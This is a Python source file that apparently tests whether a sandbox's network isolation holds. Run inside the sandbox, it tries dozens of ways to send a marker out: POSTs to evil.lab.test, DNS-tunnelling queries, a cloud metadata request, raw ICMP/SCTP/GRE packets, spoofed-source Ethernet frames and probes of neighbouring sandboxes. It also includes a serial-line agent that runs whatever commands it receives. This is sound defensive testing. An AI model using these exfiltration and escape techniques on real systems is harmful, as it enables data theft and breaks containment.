# SPDX-License-Identifier: Apache-2.0
"""Runs inside a sandbox of any kind, with Python's own library alone: `inside_battery.py FUNCTION JSON` calls one of
the functions below with that object's members and prints what it returned, as JSON. `agent PATH` takes such orders
from a character device, for virtual machines."""
import errno
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request

MARK = b"VGLEAK--" * 4
ECHO4, ECHO6 = 1, 58
PORT, NAMES, PACKETS = 4444, 6, 20
TIMEOUT = 5


def attempt(what):
    """What it returned, or the error's name."""
    try:
        return what()
    except TimeoutError:
        return "silence"
    except ssl.SSLError as e:
        return f"tls: {e.reason}"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e))
    except Exception as e:
        return f"{type(e).__name__}: {e}"


# --- requests ---

def fetch(url, method="GET", body=None, key=None, timeout=30):
    """(status, text), as a program with the environment of `vethguard env` gets it."""
    request = urllib.request.Request(url, body.encode() if body else None, method=method)
    if key and os.environ.get(key):
        request.add_header("Authorization", "Bearer " + os.environ[key])
    try:
        with urllib.request.urlopen(request, timeout=timeout) as r:
            return r.status, r.read().decode()
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode()
    except urllib.error.URLError as e:
        if isinstance(e.reason, OSError):
            raise e.reason from None
        raise


def get(**members):
    return attempt(lambda: fetch(**members))


def raw_tls(address, name):
    """A TLS connection to an address, and the status of a request on it."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection((address, 443), TIMEOUT) as s, context.wrap_socket(s, server_hostname=name) as t:
        t.sendall(b"POST /leak HTTP/1.1\r\nHost: " + (name or address).encode() +
                  b"\r\nConnection: close\r\nContent-Length: 32\r\n\r\n" + MARK)
        return t.recv(100).decode("latin-1")[9:12]


def plain(address, port):
    """Something that is no HTTP to a port: what comes back."""
    with socket.create_connection((address, port), TIMEOUT) as s:
        s.sendall(MARK + b"\r\n")
        return s.recv(100).decode("latin-1")


# --- names ---

def nameserver():
    with open("/etc/resolv.conf") as f:
        return next(line.split()[1] for line in f if line.startswith("nameserver"))


def question(name, kind):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">HHHHHH", 0x7667, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


def answer(data):
    """(code, count of answers)"""
    flags, _, answers = struct.unpack(">HHH", data[2:8])
    return [flags & 15, answers]


def ask(server, name, kind=1, tcp=False):
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as s:
        s.settimeout(TIMEOUT)
        s.connect((server, 53))
        data = question(name, kind)
        s.sendall(struct.pack(">H", len(data)) + data if tcp else data)
        got = s.recv(2000)
        return answer(got[2:] if tcp else got)


# --- packets ---

def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def datagrams(address, port, count=1, kind=socket.SOCK_DGRAM, protocol=0, payload=MARK):
    """[how many the kernel took, what came back]"""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    sent, back = 0, None
    with socket.socket(family, kind, protocol) as s:
        s.settimeout(1)
        for _ in range(count * 4):
            if sent == count:
                break
            try:
                sent += s.sendto(payload, (address, port)) > 0
            except OSError as e:  # an earlier one's, or there is no way to send it
                back = errno.errorcode.get(e.errno)
        if sent == 0:
            return [0, back]
        try:
            back = s.recv(200)
            if kind == socket.SOCK_RAW:  # an ICMP error quotes what it refuses; only another answer is one
                kind_of = back[20] if family == socket.AF_INET else back[0]
                back = b"unreachable" if kind_of in (1, 3) else back
            back = back.hex()
        except OSError as e:
            back = "silence" if isinstance(e, TimeoutError) else errno.errorcode.get(e.errno)
    return [sent, back]


def echo(address):
    if ":" in address:
        return datagrams(address, 0, kind=socket.SOCK_RAW, protocol=ECHO6, payload=b"\x80\0\0\0\x77\x77\0\x01" + MARK)
    body = b"\x77\x77\0\x01" + MARK
    return datagrams(address, 0, kind=socket.SOCK_RAW, protocol=ECHO4,
                     payload=b"\x08\0" + struct.pack(">H", checksum(b"\x08\0\0\0" + body)) + body)


def sctp(address):
    """The first packet of an association, written by hand: not every kernel has the protocol."""
    return datagrams(address, 0, kind=socket.SOCK_RAW, protocol=132, payload=struct.pack(">HHII", 9, PORT, 0, 0) + MARK)


def frames(addresses, macs):
    """Datagrams past the routing table: from false addresses, to every MAC that is given and to all. How many were sent."""
    sent, mine = 0, socket.if_nametoindex("eth0")
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind(("eth0", 0))
        own = s.getsockname()[4]
        for mac in macs + ["ff:ff:ff:ff:ff:ff"]:
            for source in ("8.8.8.8", "172.17.0.77"):
                for address in addresses:
                    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28 + len(MARK), 1, 0, 64, 17, 0, socket.inet_aton(source),
                                       socket.inet_aton(address))
                    head = head[:10] + struct.pack(">H", checksum(head)) + head[12:]
                    udp = struct.pack(">HHHH", 9, PORT, 8 + len(MARK), 0) + MARK
                    sent += s.send(bytes.fromhex(mac.replace(":", "")) + own + b"\x08\0" + head + udp) > 0
            sent += s.send(bytes.fromhex(mac.replace(":", "")) + own + b"\x88\xb5" + MARK) > 0  # of no protocol at all
    return [sent, mine > 0]


# --- all of it ---

def tries(evil4, dns4, origin4, origin6, services, neighbours, macs, tag):
    """{name: what came of it}. services: [address, TCP port, UDP port] of the host; neighbors: the same of other
    sandboxes."""
    found, threads = {}, []

    def note(name, what):
        def run():
            found[name] = attempt(what)
        threads.append(threading.Thread(target=run))
        threads[-1].start()

    note("https", lambda: fetch("https://evil.lab.test/upload", "POST", MARK.decode(), timeout=TIMEOUT * 2))
    note("http", lambda: fetch("http://evil.lab.test/upload", "POST", MARK.decode(), timeout=TIMEOUT * 2))
    note("method", lambda: fetch("https://api.lab.test/leak", "POST", MARK.decode(), timeout=TIMEOUT * 2))
    note("raw tls", lambda: raw_tls(evil4, None))
    note("raw tls named", lambda: raw_tls(evil4, "evil.lab.test"))
    note("raw http", lambda: fetch(f"http://{evil4}/leak", "POST", MARK.decode(), timeout=TIMEOUT * 2))
    note("metadata", lambda: fetch("http://169.254.169.254/latest/meta-data/", timeout=TIMEOUT))
    note("tcp", lambda: plain(origin4, 2222))
    note("tcp6", lambda: plain(origin6, 2222))
    note("dot", lambda: plain(dns4, 853))
    server = nameserver()
    for i in range(NAMES):
        note(f"dns tunnel {i}", lambda i=i: ask(server, f"{MARK.hex()[:40]}{i}.{tag}.evil.lab.test", 16 if i % 2 else 1))
    note("dns tunnel tcp", lambda: ask(server, f"{MARK.hex()[:40]}.tcp.{tag}.evil.lab.test", tcp=True))
    note("dns below allowed", lambda: ask(server, f"{MARK.hex()[:40]}.{tag}.api.lab.test"))
    for name, other in (("lab", dns4), ("world", "8.8.8.8"), ("docker", "127.0.0.11")):
        for tcp in (False, True):
            note(f"dns {name} {'tcp' if tcp else 'udp'}",
                 lambda other=other, tcp=tcp, name=name: ask(other, f"{MARK.hex()[:40]}.{name}{int(tcp)}.{tag}.evil.lab.test", tcp=tcp))
    note("udp", lambda: datagrams(origin4, 1234))
    note("udp many", lambda: datagrams("93.184.216.34", PORT, PACKETS))
    note("quic", lambda: datagrams(origin4, 443, payload=bytes([0xc3]) + MARK * 37))
    note("udp6", lambda: datagrams(origin6, 1234))
    note("echo", lambda: echo(origin4))
    note("echo6", lambda: echo(origin6))
    note("sctp", lambda: sctp(origin4))
    note("gre", lambda: datagrams(origin4, 0, kind=socket.SOCK_RAW, protocol=47))
    note("multicast", lambda: datagrams("224.0.0.251", 5353))
    note("frames", lambda: frames([evil4, origin4] + [n[0] for n in neighbours], macs))
    for who, places in (("service", services), ("neighbour", neighbours)):
        for i, (address, tcp_port, udp_port) in enumerate(places):
            note(f"{who} tcp {i}", lambda a=address, p=tcp_port: plain(a, p))
            note(f"{who} udp {i}", lambda a=address, p=udp_port: datagrams(a, p))
            note(f"{who} echo {i}", lambda a=address: echo(a))
    for t in threads:
        t.join()
    return found


def link():
    """The sandbox's own addresses and MAC."""
    with open("/sys/class/net/eth0/address") as f:
        mac = f.read().strip()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect(("192.0.2.1", 9))
        return [s.getsockname()[0], mac]


def listen(out, tcp_port, udp_port):
    """Notes every connection and datagram that arrives, for good; and every frame with the mark."""
    def say(what):
        with open(out, "a") as f:
            f.write(what + "\n")
    sockets = [socket.create_server(("::", tcp_port), family=socket.AF_INET6, dualstack_ipv6=True)]
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("", udp_port))
    packets = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))

    def tcp():
        while True:
            say(f"tcp from {sockets[0].accept()[1][0]}")

    def datagram():
        while True:
            say(f"udp from {udp.recvfrom(100)[1][0]}")
    threading.Thread(target=tcp, daemon=True).start()
    threading.Thread(target=datagram, daemon=True).start()
    say("ready")
    while True:
        frame, address = packets.recvfrom(2000)
        if MARK in frame and address[2] != 4:  # not what this kernel itself sends
            say(f"frame {frame[:80].hex()}")


def agent(device):
    """Orders from a serial line, one JSON object each: argv, env, input; answers: status, out, err."""
    import tty
    fd = os.open(device, os.O_RDWR | os.O_NOCTTY)
    tty.setraw(fd)
    with os.fdopen(os.dup(fd), "r") as orders:
        os.write(fd, b'{"ready": true}\n')
        for line in orders:
            order = json.loads(line)
            p = subprocess.Popen(order["argv"], env={**os.environ, **order["env"]}, stdin=subprocess.PIPE,
                                 stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
            out, err = p.communicate(order["input"]) if not order["background"] else ("", "")
            data = json.dumps({"status": p.poll(), "out": out, "err": err}).encode() + b"\n"
            while data:
                data = data[os.write(fd, data):]


if __name__ == "__main__":
    print(json.dumps(globals()[sys.argv[1]](**json.loads(sys.argv[2] if len(sys.argv) > 2 else "{}"))))
